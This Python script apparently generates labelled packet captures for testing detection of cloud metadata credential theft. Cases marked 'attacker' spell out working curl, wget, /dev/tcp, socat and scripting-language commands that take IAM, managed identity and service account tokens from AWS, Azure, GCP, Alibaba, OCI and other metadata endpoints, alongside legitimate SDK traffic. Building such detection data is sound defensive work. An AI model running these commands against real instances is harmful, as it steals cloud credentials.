#!/usr/bin/env python3
from lib import *
import re

ONLY = sys.argv[1:]
D = MAKE + "/drivers"
NODE = f"cd {B}/node && NODE_PATH={B}/node/node_modules node --preserve-symlinks --preserve-symlinks-main"
PY = "python"
M = "http://169.254.169.254"
ROLE = "demo-web-role"
C = []


def case(name, what, cmd, env=None, actor="legit-sdk", ns="web", ctlkw=None, timeout=40, alerts=None, notes=None, opts=()):
    C.append((name, what, cmd, env, actor, ns, ctlkw, timeout, alerts, notes, opts))


# --- the four Atomic-style tests of the seed
case(
    "atomic1_aws_iam_curl",
    "Atomic test 1: curl lists the role, then takes its IAM credentials (IMDSv1)",
    f"R=$(curl -s {M}/latest/meta-data/iam/security-credentials/); curl -s {M}/latest/meta-data/iam/security-credentials/$R",
    "",
    actor="attacker",
)
case(
    "atomic2_azure_token_curl",
    "Atomic test 2: curl takes an Azure managed identity token",
    f"curl -s -H 'Metadata: true' '{M}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
    actor="attacker",
)
case(
    "atomic3_gcp_token_curl",
    "Atomic test 3: curl takes a GCP service account token by name (DNS + HTTP)",
    "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    actor="attacker",
)
case(
    "atomic4_python_ssrf_sim",
    "Atomic test 4: python3 urllib one-liner 'SSRF simulation' against AWS",
    f"""{PY} -c "import urllib.request as u; b='{M}/latest/meta-data/iam/security-credentials/'; r=u.urlopen(b,timeout=3).read().decode(); print(u.urlopen(b+r,timeout=3).read().decode())" """,
    actor="attacker",
)
# --- AWS plain tools
case(
    "aws_v2_curl",
    "curl IMDSv2: PUT token, list role, credentials",
    f'T=$(curl -s -X PUT {M}/latest/api/token -H \'X-aws-ec2-metadata-token-ttl-seconds: 21600\'); R=$(curl -s -H "X-aws-ec2-metadata-token: $T" {M}/latest/meta-data/iam/security-credentials/); curl -s -H "X-aws-ec2-metadata-token: $T" {M}/latest/meta-data/iam/security-credentials/$R',
    actor="attacker",
    ctlkw={"v2_only": 1},
)
case(
    "aws_v1_refused_curl",
    "curl IMDSv1 against an IMDSv2-only service: 401, nothing taken",
    f"curl -s {M}/latest/meta-data/iam/security-credentials/{ROLE}",
    actor="attacker",
    ctlkw={"v2_only": 1},
    alerts=1,
    notes="attempt failed with 401; alert as attempt is fine, credential_returned must be false",
)
case(
    "aws_bad_token_curl",
    "curl IMDSv2 with an invalid token: 401",
    f"curl -s -H 'X-aws-ec2-metadata-token: bogus' {M}/latest/meta-data/iam/security-credentials/{ROLE}",
    actor="attacker",
    alerts=1,
)
case("aws_v1_wget", "wget IMDSv1 credentials", f"wget -qO- {M}/latest/meta-data/iam/security-credentials/{ROLE}", actor="attacker")
case(
    "aws_v2_wget",
    "wget IMDSv2 with --method=PUT",
    f"T=$(wget -qO- --method=PUT --header='X-aws-ec2-metadata-token-ttl-seconds: 60' {M}/latest/api/token); wget -qO- --header=\"X-aws-ec2-metadata-token: $T\" {M}/latest/meta-data/iam/security-credentials/{ROLE}",
    actor="attacker",
)
case(
    "aws_v1_ipv6_curl",
    "curl IMDSv1 over IPv6 fd00:ec2::254",
    f"curl -s 'http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/{ROLE}'",
    actor="attacker",
)
case(
    "aws_v2_ipv6_curl",
    "curl IMDSv2 over IPv6 fd00:ec2::254",
    f"T=$(curl -s -X PUT 'http://[fd00:ec2::254]/latest/api/token' -H 'X-aws-ec2-metadata-token-ttl-seconds: 300'); curl -s -H \"X-aws-ec2-metadata-token: $T\" 'http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/{ROLE}'",
    actor="attacker",
)
case(
    "aws_dated_version_curl",
    "curl dated API version 2009-04-04 and 1.0",
    f"curl -s {M}/2009-04-04/meta-data/iam/security-credentials/{ROLE}; curl -s {M}/1.0/meta-data/instance-id",
    actor="attacker",
)
case(
    "aws_userdata_curl",
    "curl user-data and identity document",
    f"curl -s {M}/latest/user-data; curl -s {M}/latest/dynamic/instance-identity/document; curl -s {M}/latest/dynamic/instance-identity/pkcs7",
    actor="attacker",
)
case(
    "aws_identity_credentials_curl",
    "curl identity-credentials/ec2/security-credentials/ec2-instance (always-present credential path)",
    f"curl -s {M}/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
    actor="attacker",
)
case(
    "aws_instance_data_name_curl",
    "curl by the EC2 DNS name instance-data (search domain)",
    f"curl -s http://instance-data/latest/meta-data/iam/security-credentials/{ROLE}; curl -s http://instance-data.ec2.internal/latest/meta-data/instance-id",
    actor="attacker",
)
case(
    "aws_discovery_curl",
    "curl harmless discovery only: instance-id, AZ, region",
    f"curl -s {M}/latest/meta-data/instance-id; curl -s {M}/latest/meta-data/placement/availability-zone; curl -s {M}/latest/meta-data/placement/region",
    actor="operator-tool",
    alerts=0,
)
case(
    "aws_enumeration_curl",
    "curl walks the meta-data tree (28 requests)",
    f"for p in '' ami-id hostname iam/ iam/info iam/security-credentials/ iam/security-credentials/{ROLE} instance-id instance-type local-ipv4 mac network/ network/interfaces/ network/interfaces/macs/ placement/ placement/region profile public-ipv4 public-keys/ public-keys/0/openssh-key security-groups services/ services/domain tags/ tags/instance/ tags/instance/Name block-device-mapping/ nonexistent; do curl -s {M}/latest/meta-data/$p; done",
    actor="attacker",
)
case(
    "aws_keepalive_curl_multi",
    "one curl process, three URLs on one keep-alive connection",
    f"curl -s {M}/latest/meta-data/ {M}/latest/meta-data/iam/security-credentials/ {M}/latest/meta-data/iam/security-credentials/{ROLE}",
    actor="attacker",
    ctlkw={"keepalive": 1},
)
# --- AWS: languages and SDKs
case(
    "aws_v2_requests",
    "python requests Session, IMDSv2",
    f"""{PY} -c "import requests as r; s=r.Session(); b='{M}/latest/'; t=s.put(b+'api/token',headers={{'X-aws-ec2-metadata-token-ttl-seconds':'60'}}).text; h={{'X-aws-ec2-metadata-token':t}}; n=s.get(b+'meta-data/iam/security-credentials/',headers=h).text; print(s.get(b+'meta-data/iam/security-credentials/'+n,headers=h).json()['AccessKeyId'])" """,
    actor="attacker",
)
case(
    "aws_aiohttp",
    "python aiohttp IMDSv1",
    f"""{PY} -c "
import aiohttp,asyncio
async def m():
    async with aiohttp.ClientSession() as s:
        async with s.get('{M}/latest/meta-data/iam/security-credentials/{ROLE}') as r: print((await r.text())[:80])
asyncio.run(m())" """,
    actor="attacker",
)
case(
    "aws_httpx",
    "python httpx IMDSv1",
    f"""{PY} -c "import httpx; print(httpx.get('{M}/latest/meta-data/iam/security-credentials/{ROLE}').text[:80])" """,
    actor="attacker",
)
case(
    "aws_node_fetch",
    "node fetch (undici) IMDSv1",
    f"""node -e "fetch('{M}/latest/meta-data/iam/security-credentials/{ROLE}').then(r=>r.text()).then(t=>console.log(t.slice(0,80)))" """,
    actor="attacker",
)
case(
    "aws_node_axios",
    "node axios IMDSv1",
    f"""cd {B}/node && node -e "require('axios').get('{M}/latest/meta-data/iam/security-credentials/{ROLE}').then(r=>console.log(r.data.AccessKeyId))" """,
    actor="attacker",
)
case(
    "aws_ruby_nethttp",
    "ruby Net::HTTP IMDSv1",
    f"""ruby -rnet/http -e "puts Net::HTTP.get(URI('{M}/latest/meta-data/iam/security-credentials/{ROLE}'))" """,
    actor="attacker",
)
case(
    "aws_perl_lwp",
    "perl LWP::UserAgent IMDSv1",
    f"""perl -MLWP::UserAgent -e 'print LWP::UserAgent->new->get("{M}/latest/meta-data/iam/security-credentials/{ROLE}")->content'""",
    actor="attacker",
)
case(
    "aws_perl_httptiny",
    "perl HTTP::Tiny IMDSv1",
    f"""perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get("{M}/latest/meta-data/iam/security-credentials/{ROLE}")->{{content}}'""",
    actor="attacker",
)
case(
    "aws_php_fgc",
    "php file_get_contents IMDSv1 (HTTP/1.1 wrapper of php 8.2)",
    f"""php -r 'echo file_get_contents("{M}/latest/meta-data/iam/security-credentials/{ROLE}");'""",
    actor="attacker",
)
case(
    "aws_php_curl",
    "php ext-curl IMDSv1 (no User-Agent)",
    f"""php -r '$c=curl_init("{M}/latest/meta-data/iam/security-credentials/{ROLE}"); curl_exec($c);'""",
    actor="attacker",
)
case(
    "aws_bash_devtcp",
    "bash /dev/tcp HTTP/1.0 without Host or User-Agent",
    f"""exec 3<>/dev/tcp/169.254.169.254/80; printf 'GET /latest/meta-data/iam/security-credentials/{ROLE} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3""",
    actor="attacker",
)
case(
    "aws_openssl_s_client_socat",
    "socat raw HTTP/1.1 request",
    f"""printf 'GET /latest/meta-data/iam/security-credentials/{ROLE} HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n' | socat -t2 - TCP:169.254.169.254:80""",
    actor="attacker",
)
case(
    "aws_boto3_v2",
    "boto3 Session().get_credentials() (IMDSv2)",
    f"""{PY} -c "import boto3; print(boto3.Session(region_name='us-east-1').get_credentials().get_frozen_credentials().access_key)" """,
    ctlkw={"v2_only": 1},
)
case(
    "aws_boto3_v2_ipv6",
    "boto3 with AWS_EC2_METADATA_SERVICE_ENDPOINT_MODE=ipv6",
    f"""{PY} -c "import boto3; print(boto3.Session(region_name='us-east-1').get_credentials().get_frozen_credentials().access_key)" """,
    env={"AWS_EC2_METADATA_SERVICE_ENDPOINT_MODE": "ipv6"},
)
case(
    "aws_boto3_v1_fallback",
    "boto3 when PUT /latest/api/token answers 403: falls back to IMDSv1",
    f"""{PY} -c "import boto3; print(boto3.Session(region_name='us-east-1').get_credentials().get_frozen_credentials().access_key)" """,
    ctlkw={"v2_disabled": 1},
)
case(
    "aws_botocore_region",
    "botocore IMDSRegionProvider: token + availability zone only",
    f"""{PY} -c "import botocore.session; from botocore.utils import IMDSRegionProvider; print(IMDSRegionProvider(botocore.session.Session()).provide())" """,
    alerts=0,
)
case(
    "aws_cli_sts",
    "aws sts get-caller-identity (awscli v1; credentials from IMDS, STS endpoint is a closed port)",
    f"aws --endpoint-url http://10.20.0.2:9 --cli-connect-timeout 2 sts get-caller-identity",
    env={"AWS_DEFAULT_REGION": "us-east-1", "AWS_MAX_ATTEMPTS": "1"},
)
case("aws_cli_list", "aws configure list (awscli v1)", f"aws configure list")
case(
    "aws_boto2_py27",
    "boto 2.49.0 on python 2.7 (legacy SDK, IMDSv1 only)",
    f"""PYTHONPATH={B}/boto2 python2.7 -c "import boto.provider as p; x=p.Provider('aws'); print(x.access_key)" """,
)
case(
    "aws_ecs_boto3",
    "boto3 ECS task role: AWS_CONTAINER_CREDENTIALS_RELATIVE_URI -> 169.254.170.2",
    f"""{PY} -c "import boto3; print(boto3.Session(region_name='us-east-1').get_credentials().get_frozen_credentials().access_key)" """,
    env={"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials/0f0f0f0f-demo-4000-8000-0123456789ab"},
)
case(
    "aws_ecs_curl",
    "curl ECS task credentials as an intruder would",
    "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    env={"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials/0f0f0f0f-demo-4000-8000-0123456789ab"},
    actor="attacker",
)
case(
    "aws_ecs_metadata_curl",
    "curl ECS task metadata (no credentials)",
    "curl -s http://169.254.170.2/v2/metadata; curl -s http://169.254.170.2/v4/0f0f/task",
    actor="operator-tool",
    alerts=0,
)
case(
    "aws_eks_podid_boto3",
    "boto3 EKS Pod Identity: full URI 169.254.170.23 with token file",
    f"""{PY} -c "import boto3; print(boto3.Session(region_name='us-east-1').get_credentials().get_frozen_credentials().access_key)" """,
    env={
        "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://169.254.170.23/v1/credentials",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": B + "/podid.token",
    },
)
case(
    "aws_eks_podid_curl",
    "curl EKS Pod Identity credentials with the mounted token",
    f'curl -s -H "Authorization: $(cat {B}/podid.token)" http://169.254.170.23/v1/credentials',
    actor="attacker",
)
case(
    "aws_eks_podid_notoken_curl",
    "curl EKS Pod Identity without a token: refused",
    "curl -s http://169.254.170.23/v1/credentials",
    actor="attacker",
    alerts=1,
)
case("aws_node_imds", "node @aws-sdk/credential-providers fromInstanceMetadata", f"{NODE} node_aws.mjs imds")
case("aws_node_chain", "node @aws-sdk fromNodeProviderChain", f"{NODE} node_aws.mjs chain", env={"AWS_REGION": "us-east-1"})
case(
    "aws_node_ecs",
    "node @aws-sdk fromContainerMetadata (ECS)",
    f"{NODE} node_aws.mjs ecs",
    env={"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials/0f0f0f0f-demo-4000-8000-0123456789ab"},
)
case(
    "aws_node_http_podid",
    "node @aws-sdk fromHttp (EKS Pod Identity)",
    f"{NODE} node_aws.mjs http",
    env={
        "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://169.254.170.23/v1/credentials",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": B + "/podid.token",
    },
)
case("aws_node_v2sdk", "node aws-sdk v2 EC2MetadataCredentials", f"{NODE} node_v2.cjs")
case("aws_node_metadata_service", "node @aws-sdk/ec2-metadata-service", f"{NODE} node_meta.mjs", alerts=0)
case("aws_rust_sdk", "Rust aws-config ImdsCredentialsProvider", f"{B}/rs/target/release/rsimds")
case(
    "aws_go_rclone",
    "rclone 1.60 (aws-sdk-go v1) s3 env_auth",
    "rclone --config /dev/null --retries 1 --low-level-retries 1 --contimeout 2s --timeout 2s lsd ':s3,provider=AWS,env_auth=true,region=us-east-1,endpoint=\"http://10.20.0.2:9\":b' ; true",
    timeout=30,
)
case(
    "aws_go_restic",
    "restic 0.14 (minio-go v7) s3 IAM credentials",
    "timeout 8 restic -r s3:http://10.20.0.2:9/b snapshots --no-cache; true",
    env={"RESTIC_PASSWORD": "x"},
    timeout=30,
)
case(
    "aws_s3fs",
    "s3fs-fuse 1.90 (libcurl) iam_role=auto",
    f"mkdir -p {B}/mnt; timeout 8 {B}/x/usr/bin/s3fs b {B}/mnt -o iam_role=auto -o url=http://10.20.0.2:9 -o endpoint=us-east-1 -o use_path_request_style -f; true",
    timeout=30,
)
case(
    "aws_ec2_utils",
    "amazon-ec2-utils 2.0.1 ec2-metadata -i -z -t",
    f"bash {B}/x/usr/bin/ec2-metadata -i -z -t",
    actor="operator-tool",
    alerts=0,
)
case(
    "aws_py_ec2_metadata",
    "python ec2-metadata 3.0.0",
    f"""{PY} -c "from ec2_metadata import ec2_metadata as e; print(e.instance_id,e.region,e.account_id,e.user_data[:10])" """,
    actor="operator-tool",
    alerts=0,
)
case("aws_cloudinit", "cloud-init 22.4.2 DataSourceEc2", f"{PY} {D}/ci.py ec2", actor="legit-agent", alerts=0)
# --- Azure
A = "api-version=2018-02-01&resource=https://management.azure.com/"
case(
    "azure_token_wget",
    "wget Azure managed identity token",
    f"wget -qO- --header 'Metadata: true' '{M}/metadata/identity/oauth2/token?{A}'",
    actor="attacker",
)
case(
    "azure_token_noheader_curl",
    "curl Azure token without the Metadata header: 400",
    f"curl -s '{M}/metadata/identity/oauth2/token?{A}'",
    actor="attacker",
    alerts=1,
)
case(
    "azure_token_vault_requests",
    "python requests Azure token for vault.azure.net",
    f"""{PY} -c "import requests as r; print(r.get('{M}/metadata/identity/oauth2/token',params={{'api-version':'2018-02-01','resource':'https://vault.azure.net'}},headers={{'Metadata':'true'}}).json()['token_type'])" """,
    actor="attacker",
)
case(
    "azure_instance_curl",
    "curl Azure instance document (discovery) and userData",
    f"curl -s -H Metadata:true --noproxy '*' '{M}/metadata/instance?api-version=2021-02-01'; curl -s -H Metadata:true '{M}/metadata/instance/compute/userData?api-version=2021-01-01&format=text'",
    actor="attacker",
    alerts=0,
)
case(
    "azure_attested_curl",
    "curl Azure attested document",
    f"curl -s -H Metadata:true '{M}/metadata/attested/document?api-version=2020-09-01'",
    actor="attacker",
    alerts=0,
)
case(
    "azure_py_managed_identity",
    "azure-identity ManagedIdentityCredential (python)",
    f"""{PY} -c "from azure.identity import ManagedIdentityCredential as M; print(M().get_token('https://management.azure.com/.default').token[:20])" """,
)
case(
    "azure_py_default_credential",
    "azure-identity DefaultAzureCredential (python): probes IMDS first",
    f"""{PY} -c "from azure.identity import DefaultAzureCredential as M; print(M().get_token('https://vault.azure.net/.default').token[:20])" """,
)
case(
    "azure_py_user_assigned",
    "azure-identity ManagedIdentityCredential(client_id=...)",
    f"""{PY} -c "from azure.identity import ManagedIdentityCredential as M; print(M(client_id='11111111-demo-4111-8111-111111111111').get_token('https://storage.azure.com/.default').token[:20])" """,
)
case(
    "azure_py_appservice",
    "azure-identity on App Service: IDENTITY_ENDPOINT 169.254.130.4:8081",
    f"""{PY} -c "from azure.identity import ManagedIdentityCredential as M; print(M().get_token('https://management.azure.com/.default').token[:20])" """,
    env={"IDENTITY_ENDPOINT": "http://169.254.130.4:8081/msi/token", "IDENTITY_HEADER": "00000000-demo-4000-8000-000000000000"},
)
case("azure_node_managed_identity", "@azure/identity ManagedIdentityCredential (node)", f"{NODE} node_azure.mjs mi")
case("azure_node_default", "@azure/identity DefaultAzureCredential (node)", f"{NODE} node_azure.mjs default")
case(
    "azure_go_rclone",
    "rclone 1.60 azureblob use_msi (go-autorest/adal)",
    "rclone --config /dev/null --retries 1 --low-level-retries 1 --contimeout 2s --timeout 2s lsd ':azureblob,account=demo,use_msi=true,endpoint=\"http://10.20.0.2:9\":b'; true",
    timeout=30,
)
case("azure_waagent_imds", "waagent 2.7.3 ImdsClient.get_compute()", f"{PY} {D}/wa.py", actor="legit-agent", alerts=0)
case("azure_cloudinit", "cloud-init 22.4.2 DataSourceAzure IMDS fetch", f"{PY} {D}/ci.py azure", actor="legit-agent", alerts=0)
# --- GCP
G = "http://metadata.google.internal/computeMetadata/v1"
case(
    "gcp_token_ip_wget",
    "wget GCP token by address",
    f"wget -qO- --header 'Metadata-Flavor: Google' {M}/computeMetadata/v1/instance/service-accounts/default/token",
    actor="attacker",
)
case(
    "gcp_noheader_curl",
    "curl GCP token without header: 403",
    f"curl -s {G}/instance/service-accounts/default/token",
    actor="attacker",
    alerts=1,
)
case(
    "gcp_legacy_header_curl",
    "curl GCP token with the legacy X-Google-Metadata-Request header",
    f"curl -s -H 'X-Google-Metadata-Request: True' {G}/instance/service-accounts/default/token",
    actor="attacker",
)
case(
    "gcp_v1beta1_curl",
    "curl GCP v1beta1 token without header (old endpoint)",
    "curl -s http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    actor="attacker",
)
case(
    "gcp_identity_curl",
    "curl GCP OIDC identity token",
    f"curl -s -H 'Metadata-Flavor: Google' '{G}/instance/service-accounts/default/identity?audience=https://svc.example&format=full'",
    actor="attacker",
)
case(
    "gcp_recursive_curl",
    "curl GCP recursive dump (startup-script inside, no token)",
    f"curl -s -H 'Metadata-Flavor: Google' '{G}/?recursive=true&alt=json'; curl -s -H 'Metadata-Flavor: Google' '{G}/instance/attributes/startup-script'",
    actor="attacker",
    alerts=0,
)
case(
    "gcp_ipv6_curl",
    "curl GCP token over IPv6 fd20:ce::254",
    "curl -s -H 'Metadata-Flavor: Google' 'http://[fd20:ce::254]/computeMetadata/v1/instance/service-accounts/default/token'",
    actor="attacker",
)
case(
    "gcp_email_sa_requests",
    "python requests GCP token of a service account named by e-mail",
    f"""{PY} -c "import requests as r; print(r.get('{G}/instance/service-accounts/demo-sa@example-project.iam.gserviceaccount.com/token',headers={{'Metadata-Flavor':'Google'}}).json()['token_type'])" """,
    actor="attacker",
)
case(
    "gcp_py_compute",
    "google-auth compute_engine.Credentials().refresh() (python)",
    f"""{PY} -c "import google.auth.compute_engine as c, google.auth.transport.requests as t; x=c.Credentials(); x.refresh(t.Request()); print(x.token[:12])" """,
)
case(
    "gcp_py_default",
    "google.auth.default() + refresh (python): ping by address then name",
    f"""{PY} -c "import google.auth, google.auth.transport.requests as t; x,p=google.auth.default(); print(p); x.refresh(t.Request()); print(x.token[:12])" """,
)
case(
    "gcp_py_idtoken",
    "google-auth compute_engine.IDTokenCredentials (python)",
    f"""{PY} -c "import google.auth.compute_engine as c, google.auth.transport.requests as t; r=t.Request(); x=c.IDTokenCredentials(r,'https://svc.example',use_metadata_identity_endpoint=True); x.refresh(r); print(x.token[:12])" """,
)
case("gcp_node_adc", "google-auth-library ADC (node)", f"{NODE} node_gcp.mjs adc")
case("gcp_node_compute", "google-auth-library Compute client (node)", f"{NODE} node_gcp.mjs compute")
case("gcp_node_idtoken", "google-auth-library getIdTokenClient (node)", f"{NODE} node_gcp.mjs idtoken")
case("gcp_node_metadata", "gcp-metadata isAvailable/zone/project-id (node)", f"{NODE} node_gcp.mjs meta", alerts=0)
case(
    "gcp_go_guest_agent_scripts",
    "google_metadata_script_runner startup (google-guest-agent 20211116)",
    f"timeout 8 {B}/x/usr/bin/google_metadata_script_runner startup; true",
    actor="legit-agent",
    alerts=0,
    timeout=20,
)
case(
    "gcp_go_rclone",
    "rclone 1.60 gcs env_auth (golang.org/x/oauth2 google)",
    "rclone --config /dev/null --retries 1 --low-level-retries 1 --contimeout 2s --timeout 2s lsd ':gcs,env_auth=true,endpoint=\"http://10.20.0.2:9\":b'; true",
    timeout=30,
)
case("gcp_cloudinit", "cloud-init 22.4.2 DataSourceGCE", f"{PY} {D}/ci.py gce", actor="legit-agent", alerts=0)
# --- others
case(
    "do_curl",
    "curl DigitalOcean v1.json, user-data, id",
    f"curl -s {M}/metadata/v1.json; curl -s {M}/metadata/v1/user-data; curl -s {M}/metadata/v1/id",
    actor="attacker",
    alerts=0,
)
case("do_cloudinit", "cloud-init 22.4.2 DigitalOcean helper", f"{PY} {D}/ci.py do", actor="legit-agent", alerts=0)
case(
    "oci_v2_curl",
    "curl Oracle OCI v2 instance + identity key.pem",
    f"curl -s -H 'Authorization: Bearer Oracle' -L {M}/opc/v2/instance/; curl -s -H 'Authorization: Bearer Oracle' {M}/opc/v2/identity/key.pem",
    actor="attacker",
)
case(
    "oci_v1_curl",
    "curl Oracle OCI v1 (no header) instance metadata",
    f"curl -s {M}/opc/v1/instance/metadata; curl -s {M}/opc/v2/instance/",
    actor="attacker",
    alerts=0,
)
case(
    "oci_py_instance_principal",
    "oci python SDK 2.189 InstancePrincipalsSecurityTokenSigner (federation host unreachable)",
    f"""{PY} -c "
import oci
try: oci.auth.signers.InstancePrincipalsSecurityTokenSigner(retry_strategy=oci.retry.NoneRetryStrategy())
except Exception as e: print(type(e).__name__, str(e)[:200])" """,
    timeout=60,
)
case("oci_cloudinit", "cloud-init 22.4.2 DataSourceOracle read_opc_metadata", f"{PY} {D}/ci.py oracle", actor="legit-agent", alerts=0)
case(
    "alibaba_curl",
    "curl Alibaba 100.100.100.200 RAM role credentials",
    "R=$(curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/); curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/$R",
    actor="attacker",
)
case(
    "alibaba_v2_curl",
    "curl Alibaba hardened mode: PUT token then RAM credentials",
    "T=$(curl -s -X PUT http://100.100.100.200/latest/api/token -H 'X-aliyun-ecs-metadata-token-ttl-seconds: 180'); curl -s -H \"X-aliyun-ecs-metadata-token: $T\" http://100.100.100.200/latest/meta-data/ram/security-credentials/demo-ecs-role",
    actor="attacker",
    ctlkw={"v2_only": 1},
)
case(
    "alibaba_py_credentials",
    "alibabacloud_credentials ecs_ram_role (python)",
    f"""{PY} -c "
from alibabacloud_credentials.client import Client; from alibabacloud_credentials.models import Config
c=Client(Config(type='ecs_ram_role')); print(c.get_credential().get_access_key_id())" """,
)
case("alibaba_cloudinit", "cloud-init 22.4.2 DataSourceAliYun", f"{PY} {D}/ci.py aliyun", actor="legit-agent", alerts=0)
case(
    "openstack_curl",
    "curl OpenStack meta_data.json (admin_pass inside) and user_data",
    f"curl -s {M}/openstack/latest/meta_data.json; curl -s {M}/openstack/latest/user_data",
    actor="attacker",
    alerts=0,
)
case("openstack_cloudinit", "cloud-init 22.4.2 OpenStack", f"{PY} {D}/ci.py openstack", actor="legit-agent", alerts=0)
case("hetzner_cloudinit", "cloud-init 22.4.2 Hetzner", f"{PY} {D}/ci.py hetzner", actor="legit-agent", alerts=0)
case(
    "ibm_vpc_curl",
    "curl IBM VPC: PUT instance_identity token, POST iam_token",
    f"T=$(curl -s -X PUT '{M}/instance_identity/v1/token?version=2022-03-01' -H 'Metadata-Flavor: ibm' -d '{{\"expires_in\":3600}}'|jq -r .access_token); curl -s -X POST '{M}/instance_identity/v1/iam_token?version=2022-03-01' -H \"Authorization: Bearer $T\" -d '{{}}'",
    actor="attacker",
)
case(
    "tencent_curl",
    "curl Tencent metadata.tencentyun.com CAM credentials",
    "curl -s http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/demo-cvm-role",
    actor="attacker",
)
case(
    "multi_cloud_probe",
    "intruder script tries AWS, Azure, GCP, DO, OCI, Alibaba one after the other",
    f"curl -s -m2 {M}/latest/meta-data/; curl -s -m2 -H Metadata:true '{M}/metadata/instance?api-version=2021-02-01'; curl -s -m2 -H Metadata-Flavor:Google {M}/computeMetadata/v1/; curl -s -m2 {M}/metadata/v1/; curl -s -m2 -H 'Authorization: Bearer Oracle' {M}/opc/v2/instance/; curl -s -m2 http://100.100.100.200/latest/meta-data/; curl -s -m2 http://169.254.170.2/v2/credentials/",
    actor="attacker",
    alerts=1,
    notes="provider fingerprinting sweep; no credential returned",
)
open(B + "/podid.token", "w").write("eyJhbGciOiJSUzI1NiIsImtpZCI6IkVYQU1QTEUifQ.eyJhdWQiOlsicG9kcy5la3MuYW1hem9uYXdzLmNvbSJdfQ.EXAMPLEFAKE")


def main():
    for name, what, cmd, env, actor, ns, ck, to, alerts, notes, opts in C:
        if ONLY and not any(re.search(o, name) for o in ONLY):
            continue
        if name.startswith("gcp_"):
            ck = {**(ck or {}), "cloud": "gcp"}
        ctl(**(ck or {}))
        with Cap(f"client/{name}.pcap", opts=opts) as c:
            rc, o, e = run(ns, cmd, env or None, timeout=to)
        ctl()
        n_cred = len({(r["client"], r["server"]) for r in c.imds if r["credential_returned"]})
        al = alerts if alerts is not None else (max(1, n_cred) if actor == "attacker" else 0)
        envs = " ".join(f"{k}={shlex.quote(v)}" for k, v in (env or {}).items())
        label(
            f"client/{name}.pcap",
            "client",
            what,
            f"{c.how()}; in ns {ns}: {envs} {cmd.strip()}" + (f"   [mock ctl {ck}]" if ck else ""),
            imds=c.imds,
            dns=c.dns,
            alerts_min=al,
            actor=actor,
            notes=notes,
            extra={"client_output": (o + e)[-160:]},
        )
        if not c.imds:
            print("   !! no imds requests; rc", rc, "out", o[-300:], "err", e[-400:])
        else:
            print("    ", [(r["method"], r["path"][:60], r["status"], r["user_agent"] and r["user_agent"][:40]) for r in c.imds][:6])
    assemble()


main()
